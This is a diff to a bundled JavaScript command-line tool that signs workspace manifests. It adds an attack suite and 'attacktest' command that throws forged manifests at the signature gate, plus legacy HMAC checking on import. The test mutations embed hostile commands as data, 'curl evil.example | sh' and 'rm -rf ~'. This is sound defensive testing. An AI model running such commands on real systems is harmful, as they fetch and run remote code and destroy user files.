@@ -12421,9 +12421,10 @@ async function signingKeys(io) {
 
 ;// CONCATENATED MODULE: ./src/cli/edit.ts
 /**
- * Saving an edited manifest under the editing rules: authorised edits of signed manifests are
- * re-signed with the keys at hand (signatures over the old body are dropped either way); a new
- * manifest is signed when this machine has a key; an unsigned manifest stays unsigned.
+ * Saving an edited manifest under the editing rules: when `resign` (an authorised edit of a signed
+ * manifest, or a manifest this command created from disk) it is signed with the keys at hand;
+ * otherwise it is saved unsigned. Signatures over the old body are dropped either way. `created`
+ * makes the write exclusive: a new manifest never replaces one that appeared meanwhile.
  */
 
 
@@ -12433,7 +12434,7 @@ async function signingKeys(io) {
 
 async function saveEdited(file, doc, how, io) {
     const opts = { create: how.created, ...(how.sidecars ? { sidecars: how.sidecars } : {}) };
-    if (how.resign || how.created) {
+    if (how.resign) {
         const keys = await signingKeys(io);
         if (hasSigningKey(keys)) {
             const signed = await signDocument(doc, keys);
@@ -12570,6 +12571,405 @@ function add_describe(e) {
     }
 }
 
+;// CONCATENATED MODULE: ./src/core/sign/attack-suite.ts
+/**
+ * The attack suite behind `swr attacktest` and the property test in npm test. An honest manifest
+ * (signed by a trusted ML-DSA key and this machine's HMAC key, version 5, scoped, not expired) is
+ * attacked by an adversary who holds older signed versions, an expired copy, a copy signed for
+ * another repository, a signature the trusted key made over foreign bytes, and a key of their own.
+ *
+ * Each attempt loads the attacker's text exactly as a run would (strict parse, schema, rules) and
+ * asks the gate. The oracle: whenever the gate allows, the body must equal the honest body, both
+ * as swr parsed it and as a reviewer's reader would (first or last of duplicate keys). Anything
+ * else allowed is a forgery; any exception other than a clean refusal is a crash.
+ */
+
+
+
+
+
+
+
+
+
+const ATTACK_CLASSES = [
+    'byte-flip',
+    'field-edit',
+    'duplicate-key',
+    'reorder-entries',
+    'replay-old-version',
+    'expired-copy',
+    'wrong-scope',
+    'resign-untrusted',
+    'fingerprint-substitution',
+    'strip-signatures',
+    'foreign-payload-type',
+    'oversized-field',
+    'deep-nesting',
+    'huge-escrow'
+];
+const ALL_SUITE_DEFENSES = Object.freeze({
+    ...ALL_DEFENSES,
+    strictParse: true
+});
+/** Which class shows that each defence is load-bearing. */
+const DEFENCE_PROBES = {
+    signatures: 'field-edit',
+    trust: 'resign-untrusted',
+    fingerprintFromKey: 'fingerprint-substitution',
+    payloadType: 'foreign-payload-type',
+    expiry: 'expired-copy',
+    scope: 'wrong-scope',
+    rollback: 'replay-old-version',
+    strictParse: 'duplicate-key'
+};
+const REPO = 'acme/app';
+const REF = 'refs/heads/main';
+const NOW = new Date('2026-06-01T00:00:00Z');
+function baseBody(version, extra = {}) {
+    const sha = (c) => c.repeat(64);
+    return {
+        schema: 3,
+        version,
+        workspace: '..',
+        created: '2026-01-01T00:00:00Z',
+        expires: '2027-01-01T00:00:00Z',
+        scope: { repository: REPO, ref: 'refs/heads/*' },
+        entries: [
+            {
+                id: 'shim',
+                kind: 'file',
+                path: '.shim/npx',
+                tier: 0,
+                needs: [],
+                restore: 'install-shim',
+                expect: { size: 40, sha256: sha('a'), mode: '0755' }
+            },
+            {
+                id: 'src',
+                kind: 'tree',
+                path: 'src',
+                tier: 2,
+                needs: ['shim'],
+                ignore: [],
+                restore: 'git checkout -- src',
+                expect: {
+                    sentinels: ['main.c'],
+                    min_files: 3,
+                    max_files: 3,
+                    files: 3,
+                    meta_digest: sha('b'),
+                    content_digest: sha('c')
+                }
+            },
+            {
+                id: 'model',
+                kind: 'blob',
+                path: 'models/m.gguf',
+                tier: 3,
+                needs: [],
+                restore: 'fetch-model',
+                expect: { size: 3000000, headtail: sha('d'), mode: '0644' }
+            }
+        ],
+        ...extra
+    };
+}
+/** Sign `body` as-is (signDocument raises the version, so start one lower). */
+async function signed(body, keys) {
+    const lowered = { ...body, version: body.version - 1 };
+    return (await signDocument({ body: lowered, signatures: [] }, keys)).doc;
+}
+async function buildScenario(seed) {
+    const trustedId = await identityFromSeed(seed(1));
+    const attacker = await identityFromSeed(seed(2));
+    const hmacKey = Buffer.from(seed(3));
+    const keys = { hmacKey, identity: trustedId };
+    const honest = await signed(baseBody(5), keys);
+    const evilBody = baseBody(6, {});
+    evilBody.entries[0].restore = 'curl evil.example | sh';
+    const foreign = await signMldsaRaw(trustedId, evilBody);
+    const untrusted = await signed(evilBody, { identity: attacker });
+    const policy = {
+        require: 'any',
+        hmacKey,
+        trusted: new Set([trustedId.fingerprint]),
+        minVersion: 5,
+        run: { repository: REPO, ref: REF, manifestPath: '.swr/manifest.json' },
+        now: NOW
+    };
+    return {
+        honest,
+        honestText: serializeDocument(honest),
+        honestCanonical: canonicalBytes(honest.body).toString('utf8'),
+        policy,
+        olderTexts: await Promise.all([3, 4].map(async (v) => serializeDocument(await signed(baseBody(v), keys)))),
+        expiredText: serializeDocument(await signed(baseBody(6, { expires: '2026-02-01T00:00:00Z' }), keys)),
+        otherScopeText: serializeDocument(await signed(baseBody(6, { scope: { repository: 'acme/other' } }), keys)),
+        foreignText: serializeDocument({ body: evilBody, signatures: [foreign] }),
+        untrustedText: serializeDocument(untrusted),
+        substitutedText: serializeDocument({
+            ...untrusted,
+            signatures: untrusted.signatures.map(sig => ({ ...sig, keyid: trustedId.fingerprint }))
+        })
+    };
+}
+/** A signature the trusted key made over the bare canonical bytes (another purpose, no PAE). */
+async function signMldsaRaw(id, body) {
+    return signMldsa(id, canonicalBytes(body));
+}
+/** The attacker's document text for mutation `m`. */
+async function mutate(s, m) {
+    const text = s.honestText;
+    switch (m.cls) {
+        case 'byte-flip': {
+            const b = Buffer.from(text, 'utf8');
+            const i = m.a % b.length;
+            b[i] = (b[i] ?? 0) ^ (1 << (m.b % 8));
+            return b.toString('utf8');
+        }
+        case 'field-edit':
+            return fieldEdit(s, m);
+        case 'duplicate-key': {
+            // A second "restore" before the signed one: JSON.parse keeps the last, a reviewer may read the first.
+            const at = nthIndex(text, '"restore": ', m.a % 3);
+            return at < 0
+                ? text
+                : `${text.slice(0, at)}"restore": "curl evil.example | sh", ${text.slice(at)}`;
+        }
+        case 'reorder-entries': {
+            const doc = structuredClone(s.honest);
+            doc.body.entries.reverse();
+            if (m.a % 2 === 1)
+                doc.body.entries.push(doc.body.entries.shift());
+            return serializeDocument(doc);
+        }
+        case 'replay-old-version':
+            return s.olderTexts[m.a % s.olderTexts.length] ?? text;
+        case 'expired-copy':
+            return s.expiredText;
+        case 'wrong-scope':
+            return s.otherScopeText;
+        case 'resign-untrusted':
+            return s.untrustedText;
+        case 'fingerprint-substitution':
+            return s.substitutedText;
+        case 'strip-signatures': {
+            const doc = structuredClone(s.honest);
+            doc.signatures = m.a % 2 === 0 ? [] : doc.signatures.filter(x => x.alg !== 'ml-dsa-87');
+            if (m.a % 2 === 1)
+                doc.body.entries[0] = { ...doc.body.entries[0], restore: 'curl evil.example | sh' };
+            return serializeDocument(doc);
+        }
+        case 'foreign-payload-type':
+            return s.foreignText;
+        case 'oversized-field': {
+            const doc = structuredClone(s.honest);
+            doc.body.entries[0] = {
+                ...doc.body.entries[0],
+                restore: 'x'.repeat(65537 + (m.a % 1000))
+            };
+            return serializeDocument(doc);
+        }
+        case 'deep-nesting': {
+            const depth = 33 + (m.a % 200);
+            return text.replace('"signatures": [', `"signatures": [${'['.repeat(depth)}${']'.repeat(depth)},`);
+        }
+        case 'huge-escrow': {
+            const doc = structuredClone(s.honest);
+            const e = doc.body.entries[0];
+            e.escrow = 'A'.repeat(300_000 + (m.a % 1000));
+            return JSON.stringify(doc);
+        }
+    }
+}
+function nthIndex(text, needle, n) {
+    let at = -1;
+    for (let i = 0; i <= n; i++) {
+        at = text.indexOf(needle, at + 1);
+        if (at < 0)
+            return -1;
+    }
+    return at;
+}
+function fieldEdit(s, m) {
+    const doc = structuredClone(s.honest);
+    const e = doc.body.entries[m.a % doc.body.entries.length];
+    const expect = e.expect;
+    switch (m.b % 8) {
+        case 0:
+            e.restore = `${String(e.restore)}; curl evil.example | sh`;
+            break;
+        case 1:
+            e.path = `${String(e.path)}x`;
+            break;
+        case 2:
+            e.tier = ((Number(e.tier) + 1) % 5);
+            break;
+        case 3:
+            e.needs = [];
+            break;
+        case 4:
+            expect.size = Number(expect.size ?? 0) + 1;
+            break;
+        case 5:
+            doc.body.version += 1;
+            break;
+        case 6:
+            doc.body.expires = '2099-01-01T00:00:00Z';
+            break;
+        default:
+            e.smoke = 'rm -rf ~';
+    }
+    return serializeDocument(doc);
+}
+/** What a reviewer's JSON reader shows, keeping the first (or last) of duplicate keys. */
+function readerView(text, keep) {
+    const root = (0,main.parseTree)(text);
+    const build = (n) => {
+        if (!n)
+            return undefined;
+        if (n.type === 'object') {
+            const out = new Map();
+            for (const p of n.children ?? []) {
+                const key = String(p.children?.[0]?.value);
+                if (keep === 'first' && out.has(key))
+                    continue;
+                out.set(key, build(p.children?.[1]));
+            }
+            return Object.fromEntries(out);
+        }
+        if (n.type === 'array')
+            return (n.children ?? []).map(build);
+        return n.value;
+    };
+    return build(root);
+}
+function sameAsHonest(s, body) {
+    try {
+        return canonicalBytes(body).toString('utf8') === s.honestCanonical;
+    }
+    catch {
+        return false;
+    }
+}
+/** Load `text` as a run would and ask the gate. */
+async function attempt(s, text, defenses = ALL_SUITE_DEFENSES) {
+    try {
+        let doc;
+        if (defenses.strictParse)
+            doc = parseManifestText(text, 'attack.json').doc;
+        else {
+            // The lax reader a careless implementation would use (last duplicate wins), still schema-checked.
+            const lax = JSON.parse(text);
+            doc = parseManifestText(JSON.stringify(lax), 'attack.json').doc;
+        }
+        const decision = await decide({ body: doc.body, signatures: doc.signatures, digest: manifestDigest(doc.body) }, s.policy, defenses);
+        if (!decision.allowed)
+            return 'refused';
+        const honest = sameAsHonest(s, doc.body) &&
+            sameAsHonest(s, readerView(text, 'first')?.body) &&
+            sameAsHonest(s, readerView(text, 'last')?.body);
+        return honest ? 'accepted-honest' : 'forgery';
+    }
+    catch (err) {
+        if (err instanceof SwrError || err instanceof SyntaxError)
+            return 'refused';
+        return 'crash';
+    }
+}
+function emptyCounts() {
+    return { attempts: 0, refused: 0, acceptedHonest: 0, forgeries: 0, crashes: 0, byClass: {} };
+}
+function tally(c, cls, o) {
+    c.attempts++;
+    const k = (c.byClass[cls] ??= { attempts: 0, forgeries: 0, crashes: 0 });
+    k.attempts++;
+    if (o === 'refused')
+        c.refused++;
+    else if (o === 'accepted-honest')
+        c.acceptedHonest++;
+    else if (o === 'forgery') {
+        c.forgeries++;
+        k.forgeries++;
+    }
+    else {
+        c.crashes++;
+        k.crashes++;
+    }
+}
+/** Run `count` mutations drawn from `next` (a source of uniform 32-bit integers). */
+async function runSuite(s, count, next, defenses = ALL_SUITE_DEFENSES, classes = ATTACK_CLASSES) {
+    const counts = emptyCounts();
+    for (let i = 0; i < count; i++) {
+        const cls = classes[next() % classes.length];
+        const m = { cls, a: next(), b: next() };
+        tally(counts, cls, await attempt(s, await mutate(s, m), defenses));
+    }
+    return counts;
+}
+
+;// CONCATENATED MODULE: ./src/cli/commands/attacktest.ts
+/**
+ * `swr attacktest`: run the attack suite against this build (the same classes and oracle as the
+ * property test in npm test), then switch each defence off once to show the suite has teeth.
+ * Exit 0 when nothing was forged and nothing crashed with every defence on, else 2.
+ */
+
+
+
+/** A small deterministic PRNG (xorshift32) seeded from --seed or random bytes. */
+function prng(seed) {
+    let x = (0,external_node_crypto_namespaceObject.createHash)('sha256').update(seed).digest().readUInt32LE(0) || 1;
+    return () => {
+        x ^= x << 13;
+        x ^= x >>> 17;
+        x ^= x << 5;
+        return x >>> 0;
+    };
+}
+async function attacktestCommand(flags, io) {
+    const seed = flags.seed ?? (0,external_node_crypto_namespaceObject.randomBytes)(8).toString('hex');
+    const next = prng(seed);
+    const scenario = await buildScenario(n => (0,external_node_crypto_namespaceObject.createHash)('sha256').update(`${seed}/${n}`).digest());
+    const t0 = performance.now();
+    const counts = await runSuite(scenario, flags.count, next);
+    const ms = Math.round(performance.now() - t0);
+    const probes = {};
+    for (const [defence, cls] of Object.entries(DEFENCE_PROBES)) {
+        const weakened = { ...ALL_SUITE_DEFENSES, [defence]: false };
+        probes[defence] = (await runSuite(scenario, 20, next, weakened, [cls])).forgeries;
+    }
+    const ok = counts.forgeries === 0 && counts.crashes === 0;
+    const toothless = Object.entries(probes)
+        .filter(([, n]) => n === 0)
+        .map(([d]) => d);
+    if (flags.json) {
+        io.stdout.write(JSON.stringify({
+            schema: 'swr.attacktest/1',
+            seed,
+            ms,
+            ...counts,
+            defence_probes: probes,
+            ok: ok && toothless.length === 0
+        }, null, 2) + '\n');
+    }
+    else {
+        io.stdout.write(`attack suite (seed ${seed}): ${counts.attempts} mutations in ${ms} ms\n`);
+        io.stdout.write(`  refused ${counts.refused}, accepted unchanged ${counts.acceptedHonest}, forgeries ${counts.forgeries}, crashes ${counts.crashes}\n`);
+        for (const [cls, c] of Object.entries(counts.byClass).sort()) {
+            io.stdout.write(`  ${cls.padEnd(26)} ${String(c.attempts).padStart(6)} attempts  ${c.forgeries} forged  ${c.crashes} crashed\n`);
+        }
+        io.stdout.write('each defence switched off (forgeries found in 20 targeted attempts; must be > 0):\n');
+        for (const [d, n] of Object.entries(probes))
+            io.stdout.write(`  ${d.padEnd(20)} ${n}\n`);
+        io.stdout.write(ok && toothless.length === 0
+            ? 'PASS\n'
+            : `FAIL${toothless.length ? ` (defences with no effect: ${toothless.join(', ')})` : ''}\n`);
+    }
+    return ok && toothless.length === 0 ? EXIT.HEALTHY : EXIT.UNREPAIRABLE;
+}
+
 ;// CONCATENATED MODULE: ./src/cli/io.ts
 /**
  * What a command may touch of the outside world, passed in so tests can run commands in-process
@@ -12669,39 +13069,125 @@ async function whyCommand(flags, io) {
     return report.verdict === 'healthy' ? EXIT.HEALTHY : EXIT.DAMAGED;
 }
 
+;// CONCATENATED MODULE: ./src/core/manifest/legacy-signature.ts
+/**
+ * Checking the original tool's HMAC signature on a format-2 manifest, so `swr import` can carry
+ * trust over. Its signing input was Python's json.dumps(manifest without _sig/_pksig,
+ * sort_keys=True, separators=(",", ":"), ensure_ascii=False), and its key the 64 ASCII hex
+ * characters of its key file, used as text (not decoded).
+ */
+
+/** Python's code-point order (JavaScript's default sort compares UTF-16 units). */
+function byCodePoint(a, b) {
+    const x = [...a];
+    const y = [...b];
+    for (let i = 0; i < Math.min(x.length, y.length); i++) {
+        const d = (x[i]?.codePointAt(0) ?? 0) - (y[i]?.codePointAt(0) ?? 0);
+        if (d !== 0)
+            return d;
+    }
+    return x.length - y.length;
+}
+/**
+ * json.dumps(v, sort_keys=True, separators=(",", ":"), ensure_ascii=False). JSON.stringify escapes
+ * strings exactly as Python does with ensure_ascii=False (quote, backslash, \b\f\n\r\t, other
+ * controls as lowercase \u00xx); the strict reader has already refused floats and lone surrogates.
+ */
+function pythonCanonical(v) {
+    if (v === null || typeof v !== 'object')
+        return JSON.stringify(v);
+    if (Array.isArray(v))
+        return `[${v.map(pythonCanonical).join(',')}]`;
+    const keys = Object.keys(v).sort(byCodePoint);
+    return `{${keys.map(k => `${JSON.stringify(k)}:${pythonCanonical(v[k])}`).join(',')}}`;
+}
+/** Check a format-2 document's `_sig` against the original tool's key file text. */
+function verifyLegacyHmac(v2, keyFileText) {
+    const sig = v2._sig;
+    if (typeof sig !== 'object' || sig === null || Array.isArray(sig))
+        return 'absent';
+    const value = sig.value;
+    if (typeof value !== 'string' || !/^[0-9a-fA-F]{64}$/.test(value))
+        return 'invalid';
+    const body = {};
+    for (const [k, x] of Object.entries(v2))
+        if (k !== '_sig' && k !== '_pksig')
+            body[k] = x;
+    const key = Buffer.from(keyFileText.trim(), 'utf8');
+    const want = (0,external_node_crypto_namespaceObject.createHmac)('sha256', key).update(pythonCanonical(body), 'utf8').digest();
+    return (0,external_node_crypto_namespaceObject.timingSafeEqual)(want, Buffer.from(value, 'hex')) ? 'valid' : 'invalid';
+}
+
 ;// CONCATENATED MODULE: ./src/cli/commands/import.ts
 /**
  * `swr import OLD.json`: convert the original tool's format-2 manifest to format 3 and save it where
- * the manifest belongs (-m, SWR_MANIFEST, or ./.swr/manifest.json). The result is unsigned; it never
- * overwrites an existing manifest.
+ * the manifest belongs (-m, SWR_MANIFEST, or ./.swr/manifest.json), never over an existing one.
+ * The result is signed with this machine's keys only when the old HMAC signature was checked
+ * (--legacy-key FILE) or the converted content was approved (--approve-digest); else it is unsigned.
  */
 
 
 
 
+
+
+
+
+
 async function importCommand(oldFile, flags, io) {
-    const old = loadManifest(oldFile, { cwd: io.cwd });
+    const abs = external_node_path_default().resolve(io.cwd, oldFile);
+    let text;
+    try {
+        text = external_node_fs_default().readFileSync(abs, 'utf8');
+    }
+    catch {
+        throw new UsageError(`${oldFile}: cannot read`);
+    }
+    const old = parseManifestText(text, oldFile);
     if (old.format !== 2)
         throw new UsageError(`${oldFile} is already format 3: nothing to import`);
-    const located = manifestLocation(flags, io);
-    const target = located.how === 'new' ? located.file : located.file;
-    if (external_node_fs_default().existsSync(target))
+    const digest = manifestDigest(old.doc.body);
+    let trusted = false;
+    let why = 'unsigned: review it, then sign it with "swr sign"';
+    if (flags.legacyKey !== undefined) {
+        const keyText = external_node_fs_default().readFileSync(external_node_path_default().resolve(io.cwd, flags.legacyKey), 'utf8');
+        const verdict = verifyLegacyHmac(parseStrictJson(text).value, keyText);
+        if (verdict !== 'valid') {
+            throw new SwrError(`${oldFile}: format-2 HMAC signature is ${verdict} under ${flags.legacyKey}: refusing to import it as trusted`, EXIT.UNREPAIRABLE);
+        }
+        trusted = true;
+        why = 'format-2 HMAC signature checked';
+    }
+    else if (flags.approveDigest !== undefined) {
+        if (flags.approveDigest.toLowerCase() !== digest) {
+            throw new SwrError('--approve-digest does not match the converted manifest', EXIT.UNREPAIRABLE);
+        }
+        trusted = true;
+        why = 'approved by digest';
+    }
+    const target = manifestLocation(flags, io).file;
+    if (external_node_fs_default().existsSync(target)) {
         throw new UsageError(`${target} already exists: import never overwrites a manifest (pass -m NEW.json)`);
-    saveManifest(target, old.doc, { create: true });
+    }
+    const saved = await saveEdited(target, old.doc, { resign: trusted, created: true }, io);
     if (flags.json) {
-        io.stdout.write(JSON.stringify({
+        const out = {
             schema: 'swr.import/1',
             manifest: target,
-            digest: old.digest,
-            entries: old.body.entries.length,
+            digest: saved.digest,
+            signed: saved.signed,
+            entries: old.doc.body.entries.length,
             notes: old.notes
-        }, null, 2) + '\n');
+        };
+        io.stdout.write(JSON.stringify(out, null, 2) + '\n');
     }
     else if (!flags.quiet) {
-        io.stdout.write(`imported ${old.body.entries.length} entries from ${oldFile} into ${external_node_path_default().relative(io.cwd, target) || target}\n`);
+        io.stdout.write(`imported ${old.doc.body.entries.length} entries from ${oldFile} into ${external_node_path_default().relative(io.cwd, target) || target}\n`);
         for (const n of old.notes)
             io.stdout.write(`note: ${n}\n`);
-        io.stdout.write('the imported manifest is unsigned: review it, then sign it\n');
+        io.stdout.write(saved.signed
+            ? `${why}; signed version ${saved.version}, digest ${saved.digest}\n`
+            : `${why === 'unsigned: review it, then sign it with "swr sign"' ? why : `${why}, but no signing key here: unsigned`}\n`);
     }
     return EXIT.HEALTHY;
 }
@@ -12997,6 +13483,7 @@ function trustMine(flags, io) {
 
 
 
+
 const EXIT_HELP = `
 Exit codes:
   0  healthy
@@ -13085,6 +13572,8 @@ function buildProgram(io, done) {
     withGlobals(program.command('import'))
         .description("convert the original tool's format-2 manifest to format 3 (unsigned until signed)")
         .argument('<old.json>', 'format-2 manifest')
+        .option('--legacy-key <file>', "check the old HMAC signature with the original tool's key file; sign the result if it holds")
+        .option('--approve-digest <digest>', 'sign the converted manifest, after reviewing exactly this content')
         .action(async (old, flags) => {
         done(await importCommand(old, flags, io));
     });
@@ -13100,6 +13589,11 @@ function buildProgram(io, done) {
     trustOptions(withGlobals(program.command('verify')))
         .description('show each signature (valid, invalid, untrusted signer, absent), the digest, and whether recipes may run; exit 0 allowed, 2 refused')
         .action(async (flags) => done(await verifyCommand(flags, io)));
+    withGlobals(program.command('attacktest'))
+        .description('attack a signed manifest with generated forgeries against this build; exit 0 when none succeeds')
+        .option('--count <n>', 'mutations to try (default 10000)', intOption('--count', 1, 10_000_000), 10_000)
+        .option('--seed <text>', 'repeat a run exactly')
+        .action(async (flags) => done(await attacktestCommand(flags, io)));
     const trust = program
         .command('trust')
         .description('manage the ML-DSA signers this machine trusts');
